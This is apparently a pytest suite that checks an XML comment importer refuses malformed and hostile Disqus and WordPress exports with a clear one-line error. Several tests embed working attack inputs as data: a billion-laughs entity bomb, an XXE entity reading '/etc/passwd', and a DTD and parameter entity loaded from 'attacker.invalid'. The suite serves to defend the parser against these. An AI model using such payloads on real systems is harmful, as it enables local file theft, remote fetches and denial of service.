"""Bad and hostile XML files: each ends, quickly, as one line that names the
file and where in it the trouble is; never a traceback, a hang, a read of a
local file or a memory blow-up."""

from __future__ import annotations

import random
import re
import time
from pathlib import Path

import pytest

from widget.transfer import xml_stream
from widget.transfer.disqus import DisqusReader
from widget.transfer.records import ImportFailure, Post
from widget.transfer.wordpress import WordPressReader

IMPORTS = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "imports"
READERS = {"disqus": DisqusReader, "wordpress": WordPressReader}
ROOTS = {
    "disqus": '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">',
    "wordpress": '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/">',
}
ENDS = {"disqus": "</disqus>", "wordpress": "</rss>"}
REFUSED = "the file declares XML entities or a DTD, which an export never needs; refused"


def failure(form: str, path: Path) -> str:
    """The one line a person sees; the reader gives up fast."""
    started = time.perf_counter()
    with pytest.raises(ImportFailure) as caught:
        for _ in READERS[form](path).records():
            pass
    assert time.perf_counter() - started < 2
    message = str(caught.value)
    assert "\n" not in message and message.startswith(str(path))
    return message


def write(tmp_path: Path, text: str | bytes, name: str = "export.xml") -> Path:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text)
    return path


@pytest.fixture(params=list(READERS))
def form(request: pytest.FixtureRequest) -> str:
    return request.param


def test_a_truncated_export_names_where_it_stops(tmp_path: Path) -> None:
    real = (IMPORTS / "disqus-real-blog-anonymised.xml").read_bytes()
    path = write(tmp_path, real[: len(real) // 2], "disqus.xml")
    read = []
    with pytest.raises(ImportFailure) as caught:
        read.extend(DisqusReader(path).records())
    assert re.fullmatch(
        rf"{re.escape(str(path))}: not well-formed XML at line \d+, column \d+ \(.+\)",
        str(caught.value),
    )
    assert 1000 < sum(isinstance(r, Post) for r in read) < 2693  # the importer rolls back


def test_a_truncated_wordpress_export(tmp_path: Path) -> None:
    real = (IMPORTS / "wordpress-importer-theme-unit-test-data.xml").read_bytes()
    path = write(tmp_path, real[:300_000])
    assert re.search(
        r": not well-formed XML at line \d+, column \d+ \(", failure("wordpress", path)
    )


def test_an_empty_file(tmp_path: Path, form: str) -> None:
    path = write(tmp_path, b"")
    assert (
        failure(form, path) == f"{path}: not well-formed XML at line 1, column 1 (no element found)"
    )


def test_binary_garbage(tmp_path: Path, form: str) -> None:
    noise = random.Random(14).randbytes(64_000)  # reproducible noise
    path = write(tmp_path, noise)
    assert re.fullmatch(
        rf"{re.escape(str(path))}: not well-formed XML at line \d+, column \d+ \(.+\)",
        failure(form, path),
    )


def test_text_that_is_not_xml(tmp_path: Path, form: str) -> None:
    path = write(tmp_path, "id,author,body\n1,Ada,Hello\n", "comments.csv")
    assert failure(form, path) == f"{path}: not well-formed XML at line 1, column 1 (syntax error)"


def test_billion_laughs_is_refused_at_the_declaration(tmp_path: Path, form: str) -> None:
    entities = "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10))
    path = write(
        tmp_path,
        f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">{entities}]>\n'
        f"{ROOTS[form]}&lol9;{ENDS[form]}",
    )
    assert failure(form, path) == f"{path}: {REFUSED} (at line 2, column 16)"


def test_an_external_entity_never_reads_the_local_file(tmp_path: Path, form: str) -> None:
    path = write(
        tmp_path,
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f"{ROOTS[form]}<post><message>&xxe;</message></post>{ENDS[form]}",
    )
    message = failure(form, path)
    assert message == f"{path}: {REFUSED} (at line 2, column 13)"
    assert "root:" not in message


def test_a_parameter_entity_is_refused(tmp_path: Path, form: str) -> None:
    path = write(
        tmp_path,
        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">%remote;]>'
        f"{ROOTS[form]}{ENDS[form]}",
    )
    assert failure(form, path).startswith(f"{path}: {REFUSED} (at line 1, column ")


def test_any_dtd_is_refused(tmp_path: Path, form: str) -> None:
    path = write(
        tmp_path,
        f'<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">\n{ROOTS[form]}{ENDS[form]}',
    )
    assert failure(form, path) == f"{path}: {REFUSED} (at line 1, column 51)"


def test_each_reader_refuses_the_others_file(tmp_path: Path) -> None:
    wordpress, disqus = IMPORTS / "isso-wordpress.xml", IMPORTS / "isso-disqus.xml"
    assert (
        failure("disqus", wordpress) == f"{wordpress} is not a Disqus export (it starts with <rss>)"
    )
    assert (
        failure("wordpress", disqus)
        == f"{disqus} is not a WordPress export (it starts with <disqus>)"
    )
    feed = write(
        tmp_path, '<rss version="2.0"><channel><item><title>News</title></item></channel></rss>'
    )
    assert failure("wordpress", feed) == (
        f"{feed} is not a WordPress export (an RSS file without WordPress's namespace,"
        " https://wordpress.org/export/1.x/)"
    )


def test_a_utf8_decoding_error_names_the_byte(tmp_path: Path, form: str) -> None:
    path = write(
        tmp_path,
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        + ROOTS[form].encode()
        + b"\n  <title>caf\xe9 \xff</title>\n"
        + ENDS[form].encode(),
    )
    assert failure(form, path) == (
        f"{path}: not well-formed XML at line 3, column 13 (not well-formed (invalid token))"
    )


def test_an_unknown_encoding(tmp_path: Path, form: str) -> None:
    path = write(tmp_path, f'<?xml version="1.0" encoding="x-klingon"?>{ROOTS[form]}{ENDS[form]}')
    assert "x-klingon" in failure(form, path)


def test_deeply_nested_elements_are_refused_where_they_go_too_deep(
    tmp_path: Path, form: str
) -> None:
    path = write(tmp_path, ROOTS[form] + "<x>" * 200_000 + "</x>" * 200_000 + ENDS[form])
    # The guard sees a chunk of the file at a time: it names the line reached.
    assert failure(form, path) == (
        f"{path}: elements nested more than 64 deep near line 1; no export has that, refused"
    )
    lines = write(tmp_path, ROOTS[form] + "\n" + "<x>\n" * 1000 + "</x>" * 1000 + ENDS[form])
    reached = re.fullmatch(
        rf"{re.escape(str(lines))}: elements nested more than 64 deep near line (\d+);"
        " no export has that, refused",
        failure(form, lines),
    )
    assert reached and 65 <= int(reached[1]) <= 1002  # the 64th <x> is on line 65


def test_a_record_too_large_to_be_a_comment(
    tmp_path: Path, form: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(xml_stream, "MAX_RECORD_MB", 1)
    record = {
        "disqus": '<post dsq:id="1"><message>{}</message></post>',
        "wordpress": "<channel><item><wp:comment><wp:comment_content>{}"
        "</wp:comment_content></wp:comment></item></channel>",
    }[form]
    path = write(tmp_path, ROOTS[form] + record.format("x" * 1_200_000) + ENDS[form])
    assert re.fullmatch(
        rf"{re.escape(str(path))}: a record larger than 1 MB near line 1;"
        " no export has that, refused",
        failure(form, path),
    )


def test_junk_after_the_export(tmp_path: Path) -> None:
    path = write(tmp_path, f"{ROOTS['disqus']}{ENDS['disqus']}\n<disqus/>")
    assert failure("disqus", path) == (
        f"{path}: not well-formed XML at line 2, column 1 (junk after document element)"
    )


def test_a_missing_file_or_a_folder(tmp_path: Path, form: str) -> None:
    missing = tmp_path / "nowhere.xml"
    assert failure(form, missing) == f"{missing}: cannot be read (No such file or directory)"
    assert failure(form, tmp_path) == f"{tmp_path}: cannot be read (Is a directory)"
